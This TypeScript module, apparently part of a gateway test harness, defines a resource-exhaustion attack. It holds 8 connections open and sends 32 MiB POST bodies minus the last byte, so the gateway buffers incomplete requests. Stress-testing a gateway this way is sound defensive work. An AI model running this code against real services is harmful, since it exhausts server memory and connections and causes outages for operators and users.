import { type Attack, keepOpen, postHead } from '../harness/attack.ts';

const MEBIBYTE = 1_048_576;

/** Sends bodies of 32 MiB except for their last byte, so that the gateway holds what it accepts of them. */
const attack: Attack = (target, signal) =>
  keepOpen(target, signal, 8, (socket) => {
    socket.write(postHead(`content-length: ${32 * MEBIBYTE}`));
    socket.write(Buffer.alloc(32 * MEBIBYTE - 1, ' '));
  });
export default attack;
